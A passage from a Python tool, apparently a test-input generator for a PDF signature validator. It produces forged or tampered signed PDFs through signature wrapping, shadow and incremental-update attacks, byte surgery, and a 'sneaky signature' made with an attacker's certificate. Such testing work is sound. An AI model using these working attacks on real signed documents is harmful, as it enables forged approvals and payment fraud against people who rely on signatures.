def k_form_fill(pdf, a):
    """Form filling: the text field's /V set and its appearance stream replaced (a new one)."""
    n, f = find_field(pdf, a.field, "Tx")
    rect = [num(x) for x in pdf.resolve(f.get("Rect"))]
    w, h = rect[2] - rect[0], rect[3] - rect[1]
    acro = pdf.resolve(pdf.catalog().get("AcroForm"))
    dr = pdf.resolve(acro.get("DR", {})) or {}
    u = Update(pdf)
    ap = u.new(Stream({Name("Type"): Name("XObject"), Name("Subtype"): Name("Form"), Name("BBox"): [0, 0, w, h],
                       Name("Resources"): dr},
                      b"/Tx BMC q BT /Helv 12 Tf 0 g 2 7 Td (%s) Tj ET Q EMC" % bytes(LitStr.of(a.value))))
    nf = dict(f)
    nf[Name("V")] = LitStr.of(a.value)
    nf[Name("AP")] = {Name("N"): Ref(ap)}
    u.set(n, nf)
    return pdf.data + u.bytes()


def k_dss(pdf, a):
    """A Document Security Store appended: catalog /DSS with /Certs and /CRLs streams."""
    def der_blocks(path, label):
        data = open(path, "rb").read()
        pems = re.findall(rb"-----BEGIN " + label + rb"-----(.*?)-----END " + label + rb"-----", data, re.S)
        return [base64.b64decode(p) for p in pems] if pems else [data]
    u = Update(pdf)
    certs = [Ref(u.new(Stream({}, der))) for p in a.cert for der in der_blocks(p, b"CERTIFICATE")]
    crls = [Ref(u.new(Stream({}, der))) for p in a.crl for der in der_blocks(p, b"X509 CRL")]
    dss = {Name("Type"): Name("DSS")}
    if certs:
        dss[Name("Certs")] = certs
    if crls:
        dss[Name("CRLs")] = crls
    dn = u.new(dss)
    cat = dict(pdf.catalog())
    cat[Name("DSS")] = Ref(dn)
    u.set(pdf.root_num(), cat)
    return pdf.data + u.bytes()


# ---------------------------------------------------- new signatures

BR_PLACEHOLDER = b"[0 ********** ********** **********]"


def add_signature(pdf, a, sigdict, rect, appearance, sign):
    """Append a signature field (merged with its widget on page N) and its signature
    dictionary, then fill /ByteRange and /Contents: sign(covered bytes) -> DER."""
    pnum, page = page_at(pdf, a.page)
    u = Update(pdf)
    sd = dict(sigdict)
    sd[Name("ByteRange")] = Raw(BR_PLACEHOLDER)
    sd[Name("Contents")] = HexStr(b"0" * (2 * a.reserve))
    sig = u.new(sd)
    widget = {Name("Type"): Name("Annot"), Name("Subtype"): Name("Widget"), Name("FT"): Name("Sig"),
              Name("T"): LitStr.of(a.field), Name("V"): Ref(sig), Name("F"): 132, Name("Rect"): rect,
              Name("P"): Ref(pnum)}
    if appearance is not None:
        widget[Name("AP")] = {Name("N"): Ref(u.new(appearance))}
    w = u.new(widget)
    p = dict(page)
    p[Name("Annots")] = list(pdf.resolve(page.get("Annots", [])) or []) + [Ref(w)]
    u.set(pnum, p)
    cat = dict(pdf.catalog())
    acro_v = cat.get("AcroForm")
    acro = dict(pdf.resolve(acro_v) or {})
    acro[Name("Fields")] = list(pdf.resolve(acro.get("Fields", [])) or []) + [Ref(w)]
    acro[Name("SigFlags")] = 3
    if isinstance(acro_v, Ref):
        u.set(acro_v.num, acro)
    else:
        cat[Name("AcroForm")] = acro
        u.set(pdf.root_num(), cat)
    out = bytearray(pdf.data + u.bytes())
    at = out.index(BR_PLACEHOLDER, len(pdf.data))
    cm = re.compile(rb"/Contents <(0+)>").search(out, len(pdf.data))
    b, c = cm.start(1) - 1, cm.end(1) + 1
    br = b"[0 %d %d %d]" % (b, c, len(out) - c)
    out[at:at + len(BR_PLACEHOLDER)] = br + b" " * (len(BR_PLACEHOLDER) - len(br))
    der = sign(bytes(out[:b]) + bytes(out[c:]))
    hx = der.hex().upper().encode()
    if len(hx) > c - b - 2:
        raise Fail("the signature (%d bytes) does not fit the reserved %d" % (len(der), a.reserve))
    out[b + 1:b + 1 + len(hx)] = hx
    return bytes(out)


def openssl(*argv, data=None):
    r = subprocess.run(["openssl"] + list(argv), input=data, capture_output=True)
    if r.returncode != 0:
        raise Fail("openssl %s: %s" % (argv[0], r.stderr.decode(errors="replace").strip()))
    return r.stdout


def k_sneaky_sign(pdf, a):
    """Sneaky signature (Rohlmann et al., S&P 2021): a new signature field whose visible
    appearance shows a.text over the page, signed (adbe.pkcs7.detached, by the openssl CLI)
    with --key/--cert (e.g. an attacker's self-signed certificate)."""
    if not a.key or not a.cert:
        raise Fail("sneaky-sign needs --key and --cert")
    font = {Name("Type"): Name("Font"), Name("Subtype"): Name("Type1"), Name("BaseFont"): Name("Helvetica")}
    ap = Stream({Name("Type"): Name("XObject"), Name("Subtype"): Name("Form"), Name("BBox"): [0, 0, 484, 60],
                 Name("Resources"): {Name("Font"): {Name("TamgaAtk"): font}}},
                b"q 1 g 0 0 484 60 re f Q BT /TamgaAtk 18 Tf 4 22 Td (%s) Tj ET" % bytes(LitStr.of(a.text)))

    def sign(covered):
        with tempfile.TemporaryDirectory() as t:
            p = os.path.join(t, "data")
            write(p, covered)
            return openssl("cms", "-sign", "-binary", "-in", p, "-signer", a.cert, "-inkey", a.key,
                           "-outform", "DER", "-md", "sha256", "-nosmimecap")
    sd = {Name("Type"): Name("Sig"), Name("Filter"): Name("Adobe.PPKLite"),
          Name("SubFilter"): Name("adbe.pkcs7.detached"), Name("M"): LitStr.of("D:20260101000000Z")}
    return add_signature(pdf, a, sd, [56, 680, 540, 740], ap, sign)


def der_children(buf):
    """[(tag, full element bytes)] of the elements in buf."""
    out, i = [], 0
    while i < len(buf):
        tag, n = buf[i], buf[i + 1]
        hl = 2
        if n >= 0x80:
            k = n & 0x7F
            n = int.from_bytes(buf[i + 2:i + 2 + k], "big")
            hl += k
        out.append((tag, buf[i:i + hl + n], buf[i + hl:i + hl + n]))
        i += hl + n
    return out


def k_doc_timestamp(pdf, a):
    """A document time-stamp (PAdES B-LTA style): an invisible field, SubFilter ETSI.RFC3161,
    /Contents an RFC 3161 token over the SHA-256 of the covered bytes, from --tsa-url."""
    if not a.tsa_url:
        raise Fail("doc-timestamp needs --tsa-url")

    def stamp(covered):
        q = openssl("ts", "-query", "-sha256", "-digest", hashlib.sha256(covered).hexdigest(), "-cert")
        req = urllib.request.Request(a.tsa_url, data=q, headers={"Content-Type": "application/timestamp-query"})
        with urllib.request.urlopen(req, timeout=30) as r:
            resp = r.read()
        top = der_children(resp)
        parts = der_children(top[0][2])
        status = der_children(parts[0][2])
        if status[0][2] not in (b"\x00", b"\x01") or len(parts) < 2:
            raise Fail("the TSA refused: %r" % resp[:40])
        return parts[1][1]
    sd = {Name("Type"): Name("DocTimeStamp"), Name("Filter"): Name("Adobe.PPKLite"),
          Name("SubFilter"): Name("ETSI.RFC3161")}
    return add_signature(pdf, a, sd, [0, 0, 0, 0], None, stamp)


def k_not_pdf(pdf, a):
    return b"This is not a PDF file, only text with a .pdf name.\n"


# ============================================================ main

KINDS = [
    # name, function, needs input, description
    ("contents-removed", k_contents_removed, "byte surgery: the signature's /Contents key and value blanked"),
    ("contents-empty", k_contents_empty, "byte surgery: /Contents <> (padded with spaces)"),
    ("contents-zeros", k_contents_zeros, "byte surgery: every hex digit of /Contents set to 0"),
    ("byterange-removed", k_byterange_removed, "byte surgery: /ByteRange key and value blanked"),
    ("byterange-zeros", k_byterange_zeros, "byte surgery: /ByteRange [0 0 0 0]"),
    ("byterange-three", k_byterange_three, "byte surgery: /ByteRange with 3 numbers"),
    ("byterange-negative", k_byterange_negative, "byte surgery: /ByteRange with a negative length"),
    ("byterange-gap", k_byterange_gap, "byte surgery: the gap starts --by bytes before /Contents' '<'"),
    ("wrapping", k_wrapping, "signature wrapping: 2nd signed part moved, gap holds /Contents, a 2nd /ByteRange, "
                             "attacker objects; new xref table (classic input only)"),
    ("tamper-text", k_tamper_text, "a letter in a text string of page --page's uncompressed content stream"),
    ("tamper-middle", k_tamper_middle, "the EOL after the 'endobj' nearest the middle of the signed bytes changed"),
    ("flip", k_flip, "byte surgery: byte --offset XORed with --xor"),
    ("truncate", k_truncate, "the first --keep bytes (default half the file)"),
    ("not-pdf", k_not_pdf, "a text file (IN may be -)"),
    ("isa-replace", k_isa_replace, "update: page --page's /Contents replaced by a new stream showing --text"),
    ("isa-add", k_isa_add, "update: a new content stream appended to page --page's /Contents (covers, draws --text)"),
    ("shadow-prepare", k_shadow_prepare, "update of an UNSIGNED file: hidden stream, /TamgaOv overlay, spare page tree"),
    ("shadow-hide", k_shadow_hide, "update: page /Contents re-pointed at the prepared unused stream"),
    ("shadow-replace", k_shadow_replace, "update: a new version of the /TamgaOv overlay XObject (same object number)"),
    ("hide-and-replace", k_hide_and_replace, "update: catalog /Pages swapped for the prepared page tree"),
    ("freetext", k_freetext, "update: a FreeText annotation with --text added to page --page"),
    ("form-pdf", k_form_pdf, "generator (IN -): a PDF with an AcroForm text field --field"),
    ("form-fill", k_form_fill, "update: text field --field gets /V --value and a new appearance"),
    ("dss", k_dss, "update: catalog /DSS with --cert PEM... and --crl FILE... as streams"),
    ("doc-timestamp", k_doc_timestamp, "update: an ETSI.RFC3161 document time-stamp from --tsa-url"),
    ("sneaky-sign", k_sneaky_sign, "update: a visible signature field showing --text, signed with --key/--cert"),
]


def main(argv):
    if len(argv) >= 1 and argv[0] == "list":
        for name, _, desc in KINDS:
            print("%-20s %s" % (name, desc))
        return 0
    ap = argparse.ArgumentParser(prog="pdf_attacks.py", description=__doc__.split("\n\n")[1],
                                 formatter_class=argparse.RawDescriptionHelpFormatter,
                                 epilog="KIND is one of: " + ", ".join(k[0] for k in KINDS) + " ('list' describes them)")
    ap.add_argument("kind", choices=[k[0] for k in KINDS])
    ap.add_argument("input", help="the PDF to start from ('-' for generators)")
    ap.add_argument("output")
    ap.add_argument("--sig", type=int, help="which signature (1-based, file order; default the last)")
    ap.add_argument("--page", type=int, default=1, help="page number (default 1)")
    ap.add_argument("--text", default="PAY 1,000,000 MNT TO THE ATTACKER", help="the attacker's text")
    ap.add_argument("--by", type=int, default=4, help="byterange-gap: bytes (default 4)")
    ap.add_argument("--offset", type=int, help="flip: the byte")
    ap.add_argument("--xor", type=lambda s: int(s, 0), default=0x01, help="flip: mask (default 1)")
    ap.add_argument("--keep", type=int, help="truncate: bytes kept")
    ap.add_argument("--obj", type=int, help="shadow kinds: the object number to use (default: found)")
    ap.add_argument("--field", help="field name (form-pdf: default 'name'; sneaky-sign/doc-timestamp: new field)")
    ap.add_argument("--value", default="Bat-Erdene Dorj", help="form-fill: the value")
    ap.add_argument("--cert", action="append", default=[], help="dss: PEM/DER certificates; sneaky-sign: signer")
    ap.add_argument("--crl", action="append", default=[], help="dss: CRLs (PEM or DER)")
    ap.add_argument("--key", help="sneaky-sign: the signer's private key (PEM)")
    ap.add_argument("--tsa-url", help="doc-timestamp: RFC 3161 TSA URL")
    ap.add_argument("--reserve", type=int, default=16384, help="bytes reserved for a new /Contents")
    a = ap.parse_args(argv)
    if a.kind == "sneaky-sign":
        a.cert = a.cert[0] if a.cert else None
    if a.field is None:
        a.field = {"sneaky-sign": "Approval", "doc-timestamp": "DocTimeStamp"}.get(a.kind, "name")
    fn = dict((k[0], k[1]) for k in KINDS)[a.kind]
    try:
        if a.input == "-":
            if a.kind not in ("form-pdf", "not-pdf"):
                raise Fail("%s needs an input PDF" % a.kind)
            pdf = None
        else:
            pdf = load(a.input)
        out = fn(pdf, a)
    except (Fail, OSError, KeyError, ValueError, IndexError) as e:
        print("pdf_attacks.py %s: %s: %s" % (a.kind, a.input, e if not isinstance(e, KeyError) else "missing %s" % e),
              file=sys.stderr)
        return 2
    write(a.output, out)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
